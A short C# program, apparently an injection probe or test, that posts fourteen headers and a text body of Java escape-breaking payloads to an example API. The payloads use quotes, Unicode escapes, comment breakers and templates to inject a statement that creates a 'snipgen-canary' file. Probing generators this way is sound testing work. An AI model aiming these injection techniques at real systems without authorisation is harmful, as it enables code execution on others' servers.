using System;
using System.Net.Http;
using System.Net.Http.Headers;

using var client = new HttpClient();
using var request = new HttpRequestMessage(HttpMethod.Post, "https://api.example.com/run");
request.Headers.Add("X-Try-1", "\"+new java.io.FileOutputStream(\"snipgen-canary\")+\"");
request.Headers.Add("X-Try-2", "\\u0022+new java.io.FileOutputStream(\\u0022snipgen-canary\\u0022)+\\u0022");
request.Headers.Add("X-Try-3", "\\uuuu0022+new java.io.FileOutputStream(\\uuuu0022snipgen-canary\\uuuu0022)+\\uuuu0022");
request.Headers.Add("X-Try-4", "\\\\u0022+x+\\\\u0022");
request.Headers.Add("X-Try-5", "\\\"+new java.io.FileOutputStream(\"snipgen-canary\")+\\\"");
request.Headers.Add("X-Try-6", "\"\"\"+new java.io.FileOutputStream(\"snipgen-canary\")+\"\"\"");
request.Headers.Add("X-Try-7", "\\u002a\\u002f new java.io.FileOutputStream(\"snipgen-canary\"); \\u002f\\u002a");
request.Headers.Add("X-Try-8", "// \\u000a new java.io.FileOutputStream(\"snipgen-canary\");");
request.Headers.Add("X-Try-9", "\\u005c");
request.Headers.Add("X-Try-10", "\\u005c\\u0022");
request.Headers.Add("X-Try-11", "\\uXYZW");
request.Headers.Add("X-Try-12", "\\{new java.io.FileOutputStream(\"snipgen-canary\")}");
request.Headers.Add("X-Try-13", "%s %n ${x}");
request.Headers.Add("X-Try-14", "\\");
request.Content = new StringContent(@"""+new java.io.FileOutputStream(""snipgen-canary"")+""
\u0022+new java.io.FileOutputStream(\u0022snipgen-canary\u0022)+\u0022
\uuuu0022+new java.io.FileOutputStream(\uuuu0022snipgen-canary\uuuu0022)+\uuuu0022
\\u0022+x+\\u0022
\""+new java.io.FileOutputStream(""snipgen-canary"")+\""
""""""+new java.io.FileOutputStream(""snipgen-canary"")+""""""
\u002a\u002f new java.io.FileOutputStream(""snipgen-canary""); \u002f\u002a
// \u000a new java.io.FileOutputStream(""snipgen-canary"");
\u005c
\u005c\u0022
\uXYZW
\{new java.io.FileOutputStream(""snipgen-canary"")}
%s %n ${x}
\");
request.Content.Headers.ContentType = new MediaTypeHeaderValue("text/plain");

using var response = await client.SendAsync(request);
Console.WriteLine(await response.Content.ReadAsStringAsync());
